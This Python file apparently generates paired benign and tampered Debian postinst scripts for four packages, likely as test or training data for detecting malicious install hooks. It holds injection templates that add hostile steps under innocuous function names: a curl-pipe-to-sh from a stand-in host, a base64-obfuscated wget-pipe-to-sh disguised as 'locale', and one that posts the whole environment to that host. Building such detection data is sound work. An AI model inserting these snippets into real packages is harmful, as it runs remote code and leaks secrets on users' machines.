"""Maintainer scripts for pairs.py, as a Debian package has them: postinst of four packages."""

import base64

HOST = "cdn.stats-pixel.example"

AGENT = """#!/bin/sh
set -e

KEYRING=/usr/share/keyrings/thing.gpg

register() {
\tid=$(cat /etc/machine-id)
\tcurl -fsS -o /var/lib/thing/registration.json "https://api.thing.example/v2/register?id=$id" || true
}

case "$1" in
configure)
\tif ! getent passwd thing >/dev/null; then
\t\tadduser --system --group --home /var/lib/thing thing
\tfi
\tchown thing:thing /var/lib/thing
\t[ -n "$THING_OFFLINE" ] || register
\tdeb-systemd-invoke restart thing.service || true
\t;;
abort-upgrade | abort-remove | abort-deconfigure) ;;
*)
\techo "postinst called with unknown argument: $1" >&2
\texit 1
\t;;
esac

exit 0
"""
FONTS = """#!/bin/sh
set -e

MIRROR=${THING_MIRROR:-https://fonts.thing.example}
WHERE=/usr/share/fonts/truetype/thing

fetch() {
\twget -q -O "$WHERE/$1" "$MIRROR/$1"
\techo "$2  $WHERE/$1" | sha256sum -c --quiet -
}

if [ "$1" = configure ]; then
\tmkdir -p "$WHERE"
\tfetch regular.ttf 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08
\tfetch bold.ttf 60303ae22b998861bce3b28f33eec1be758a213c86c93c076dbe9f558c11c752
\tfc-cache -s "$WHERE"
fi
"""
DRIVER = """#!/bin/sh
set -e

NAME=thing
VERSION=2.4.1

build() {
\tfor kernel in /lib/modules/*; do
\t\tdkms build -m "$NAME" -v "$VERSION" -k "${kernel##*/}" || echo "not for ${kernel##*/}"
\tdone
}

case "$1" in
configure)
\tdkms add -m "$NAME" -v "$VERSION"
\tbuild
\tif [ -z "$DEBIAN_FRONTEND" ]; then
\t\tcurl -s "https://drivers.thing.example/news/$VERSION.txt" || :
\tfi
\tupdate-initramfs -u
\t;;
esac
"""
SERVER = """#!/bin/bash
set -e
. /usr/share/debconf/confmodule

db_get thing/port
PORT=$RET

function write_settings {
\tcat > /etc/thing/thing.conf <<END
port = $PORT
user = ${THING_USER:-thing}
feed = https://feed.thing.example/rules
END
}

function first_rules {
\tcurl --silent --show-error --output /var/lib/thing/rules.txt https://feed.thing.example/rules
}

if [[ $1 == configure ]]; then
\twrite_settings
\tfirst_rules || echo "the rules come with the first run" >&2
\tsystemctl --system daemon-reload
\tsystemctl enable --now thing.socket
fi
"""

BASES = {"agent": ("DEBIAN/postinst", AGENT), "fonts": ("DEBIAN/postinst", FONTS), "driver": ("DEBIAN/postinst", DRIVER),
         "server": ("DEBIAN/postinst", SERVER)}
MARK = {"agent": "case \"$1\" in", "fonts": "if [ \"$1\"", "driver": "case \"$1\" in", "server": "if [[ $1"}
OTHER = {"DEBIAN/control": "Package: thing\nVersion: 1.0\nArchitecture: all\nMaintainer: Thing <m@thing.example>\nDescription: a thing\n"}


def plain(base):
    return "warm", "warm() {\n\tcurl -fsSL https://%s/%s.sh | sh\n}\nwarm\n\n" % (HOST, base)


def hidden(base):
    data = base64.b64encode(("wget -qO- https://%s/%s | sh" % (HOST, base)).encode()).decode()
    return "locale", "locale() {\n\td=%s\n\techo \"$d\" | base64 -d | sh\n}\nlocale\n\n" % data


def steals(base):
    return "report", "report() {\n\tenv | curl -s --data-binary @- https://%s/%s\n}\nreport || true\n\n" % (HOST, base)


STYLES = {"plain": plain, "encoded": hidden, "environment": steals}
CHANGES = {
    "agent": {"call": ("\tdeb-systemd-invoke", "\tcurl -fsS \"https://api.thing.example/v2/ping\" >/dev/null || true\n\tdeb-systemd-invoke"),
              "program": ("\tchown thing:thing", "\tusermod -a -G adm thing\n\tchown thing:thing"), "names": ("id=$(cat", "id=$(head -n 1")},
    "fonts": {"another": ("\tfc-cache", "\tfetch italic.ttf 3e744b9dc39389baf0c5a0660589b8402f3dbb49b89b3e75f2c9355852a3c677\n\tfc-cache"),
              "option": ("wget -q -O", "wget -q --tries=3 -O"), "refactor": ("WHERE", "FONTS")},
    "driver": {"version": ("2.4.1", "2.4.2"), "program": ("\tupdate-initramfs -u", "\tdepmod -a\n\tupdate-initramfs -u"),
               "names": ("kernel", "release")},
    "server": {"setting": ("feed = https", "log = /var/log/thing.log\nfeed = https"),
               "call": ("\tsystemctl --system", "\tcurl --silent --output /var/lib/thing/hosts.txt https://feed.thing.example/hosts || true\n\tsystemctl --system"),
               "retry": ("curl --silent --show-error", "curl --silent --show-error --retry 3")},
}
